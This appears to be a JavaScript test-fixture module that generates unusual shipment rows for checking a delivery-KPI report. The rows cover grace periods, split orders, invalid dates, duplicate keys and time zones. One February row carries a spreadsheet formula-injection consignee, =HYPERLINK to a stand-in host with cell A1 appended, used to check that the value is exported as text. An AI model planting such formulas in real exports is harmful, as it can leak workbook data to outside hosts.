// The rows that are there for a reason. Each is a plain delivery with one thing changed; `odd` says why, and ends up in the README.
import { at, hour, minute } from './clock.mjs';

/** A plain delivered single-line shipment of a client, to be copied. */
function plain(lines, client, site) {
  const counts = new Map();
  for (const { shipmentNo } of lines) counts.set(shipmentNo, (counts.get(shipmentNo) ?? 0) + 1);
  const found = lines.find(
    line =>
      line.client === client &&
      line.site === site &&
      line.status === 'delivered' &&
      counts.get(line.shipmentNo) === 1 &&
      line.damaged === 0 &&
      line.delivered <= line.promised,
  );
  if (found === undefined) throw new Error(`no plain delivery of ${client} from ${site}`);
  return { ...found, podReturned: found.promised, deliveredCorrectly: true, documentsCorrect: true, orderCorrect: true };
}

/** A copy whose promise falls on another day: every other time moves with it. */
function moved(line, promised) {
  const by = at(promised) - line.promised;
  const times = [
    'orderReceived',
    'orderDue',
    'orderProcessed',
    'dispatchDue',
    'dispatched',
    'promised',
    'delivered',
    'feedbackDue',
    'feedback',
    'podDue',
    'podReturned',
  ];
  return { ...line, ...Object.fromEntries(times.filter(time => line[time] !== undefined).map(time => [time, line[time] + by])) };
}

const without = (line, ...fields) => Object.fromEntries(Object.entries(line).filter(([field]) => !fields.includes(field)));
const amount = quantity => ({ ordered: quantity, shipped: quantity, arrived: quantity });

const january = lines => {
  const acme = (number, promised, delivered, rest) => ({
    ...moved(plain(lines, 'ACME', 'SHA1'), promised),
    shipmentNo: `ACS2601${number}`,
    orderNo: `SOS2601${number}`,
    delivered: at(delivered),
    dayPromise: false,
    ...rest,
  });
  return [
    acme(9001, '2026-01-14 18:00:00', '2026-01-14 18:30:01', {
      odd: 'One second beyond the half hour of grace in the contract: it failed, however it is displayed.',
    }),
    acme(9002, '2026-01-14 18:00:00', '2026-01-14 18:30:00', {
      odd: 'At the last moment of the grace: on time, because "no later than" includes the moment itself.',
    }),
    acme(9003, '2026-01-15 18:00:00', '2026-01-15 23:59:59', {
      dayPromise: true,
      odd: 'Promised by day, delivered in the last second of that day in Shanghai: on time.',
    }),
    acme(9004, '2026-01-15 18:00:00', '2026-01-16 00:30:00', {
      dayPromise: true,
      odd: 'Promised by day, delivered half an hour after midnight: the grace ran from the last millisecond of the day, so it is late.',
    }),
    acme(9005, '2026-01-20 18:00:00', '2026-01-20 11:10:00', {
      orderNo: 'SOS26019005',
      ...amount(6),
      odd: 'Split delivery, first part: 6 of the 10 pieces of order SOS26019005, in time.',
    }),
    acme(9006, '2026-01-21 18:00:00', '2026-01-21 09:40:00', {
      orderNo: 'SOS26019005',
      ...amount(4),
      odd: 'Split delivery, second part: the other 4 of order SOS26019005, in time. One order, on time and in full: 1 of 1, never 10 of 14.',
    }),
    without(
      acme(9007, '2026-01-22 18:00:00', '2026-01-22 10:00:00', {
        odd: "Delivered, but nobody wrote down when: undated, shown beside the value and in nobody's favour.",
      }),
      'delivered',
    ),
    without(
      acme(9008, '2026-01-23 18:00:00', '2026-01-23 10:00:00', {
        odd: 'Delivered, but no promise is known: undetermined for on-time delivery.',
      }),
      'promised',
    ),
    {
      ...moved(plain(lines, 'LOTUS', 'CTU1'), '2026-01-15 18:00:00'),
      shipmentNo: 'LHC26019009',
      orderNo: 'SOC26019009',
      delivered: at('2026-01-15 18:10:00'),
      dayPromise: false,
      odd: 'Ten minutes after the promised hour, but on the promised day: on time, because the contract with LOTUS counts by the day (Annex A).',
    },
  ];
};

const february = lines => {
  const acme = { ...moved(plain(lines, 'ACME', 'SHA1'), '2026-02-06 18:00:00'), dayPromise: false };
  return [
    {
      ...acme,
      shipmentNo: 'ACS26029001',
      consignee: '=HYPERLINK("http://example.invalid/?"&A1,"门店")',
      odd: 'A consignee that begins with =: text in every workbook, never a formula.',
    },
    {
      ...acme,
      shipmentNo: 'ACS26029002',
      chineseName: '艾克镁食品',
      rejected: true,
      odd: "A client's name with a typing error: not in ref/clients.csv, so the row is rejected.",
    },
    {
      ...acme,
      shipmentNo: 'ACS26029003',
      deliveredText: '2026-02-30 10:00:00',
      rejected: true,
      odd: 'Delivered on 30 February: no such day, so the row is rejected.',
    },
  ];
};

const march = lines => {
  const qinghe = {
    ...moved(plain(lines, 'QINGHE', 'SHA1'), '2026-03-11 18:00:00'),
    dayPromise: false,
    shipmentNo: 'QHS26039001',
    rejected: true,
  };
  return [
    {
      ...qinghe,
      odd: 'The same key as another row of this file with another quantity: both are rejected, each naming the other.',
    },
    { ...qinghe, ...amount(qinghe.ordered + 1), orderReceived: qinghe.orderReceived + 1, odd: 'The other row with that key.' },
  ];
};

const may = lines => {
  const qinghe = {
    ...moved(plain(lines, 'QINGHE', 'CTU1'), '2026-05-20 18:00:00'),
    dayPromise: false,
    status: 'dispatched',
    arrived: undefined,
    damaged: undefined,
    lost: undefined,
  };
  return [
    without(
      {
        ...qinghe,
        shipmentNo: 'QHC26059001',
        odd: 'Dispatched, promised for 20 May, never heard of again: open and overdue is late (`on_time_delivery_due`).',
      },
      'delivered',
      'podReturned',
      'deliveredCorrectly',
      'documentsCorrect',
      'temperatureOk',
    ),
    without(
      {
        ...qinghe,
        shipmentNo: 'QHC26059002',
        status: 'open',
        shipped: undefined,
        odd: 'Never sent out: its dispatch was due days before, so on-time dispatch counts it as failed.',
      },
      'delivered',
      'podReturned',
      'dispatched',
      'feedback',
      'deliveredCorrectly',
      'documentsCorrect',
      'temperatureOk',
    ),
  ];
};

const rotterdam = {
  '2026-02': lines => [
    {
      ...plain(lines, 'NORDLYS', 'RTM1'),
      shipmentNo: 'NLR26029001',
      shippedText: '12 st',
      rejected: true,
      odd: '"12 st" is not a number: the row is rejected, with the remedy.',
    },
  ],
  '2026-03': lines => [
    {
      ...moved(plain(lines, 'NORDLYS', 'RTM1'), '2026-03-29 18:00:00'),
      shipmentNo: 'NLR26039001',
      delivered: at('2026-03-29 02:30:00'),
      odd: 'Delivered at 02:30 on the night summer time begins, an hour that does not exist: taken as 03:30, with a warning, never rejected.',
    },
    {
      ...moved(plain(lines, 'NORDLYS', 'RTM1'), '2026-03-31 18:00:00'),
      shipmentNo: 'NLR26039002',
      delivered: at('2026-03-31 23:30:00'),
      odd: "Delivered on 31 March at 23:30 in Rotterdam, when it is April in Shanghai: counts in March, because the client's zone decides.",
    },
  ],
  '2026-04': lines => [
    {
      ...plain(lines, 'KESTREL', 'RTM1'),
      shipmentNo: 'KPR26049001',
      deliveredText: '31-04-2026 10:00',
      rejected: true,
      odd: 'Delivered on 31 April: no such day, so the row is rejected.',
    },
  ],
};

const shanghai = { '2026-01': january, '2026-02': february, '2026-03': march, '2026-05': may };

/** The odd lines of a month and system, made from that month's plain ones. */
export const oddLines = (month, system) => lines => ((system === 'tms' ? shanghai : rotterdam)[month.id] ?? (() => []))(lines);

/** The rows of the corrected March file: Shuntu had exported when signatures were uploaded, not when they were given. */
export function correctedLines(lines) {
  const late = line => line.delivered > (line.dayPromise ? line.promised + 6 * hour : line.promised);
  const acme = lines.filter(line => line.client === 'ACME' && line.delivered !== undefined);
  const affected = acme.filter(line => line.carrier === '顺途物流' && late(line) && line.promised < at('2026-03-24'));
  const corrected = affected.map((line, i) => ({ ...line, delivered: line.promised - (i + 1) * minute, reason: undefined }));
  const same = acme.filter(line => !late(line)).slice(0, 2);
  const odd = [
    'A delivery of the March file with its true delivery time, and the reason of its lateness cleared by an empty cell: a new version of the same fact, as is every row of this file but the last two.',
    'This row and the next say what the March file already said: unchanged, nothing is written.',
  ];
  return [...corrected, ...same].map((line, i) =>
    i === 0 ? { ...line, odd: odd[0] } : i === corrected.length ? { ...line, odd: odd[1] } : line,
  );
}
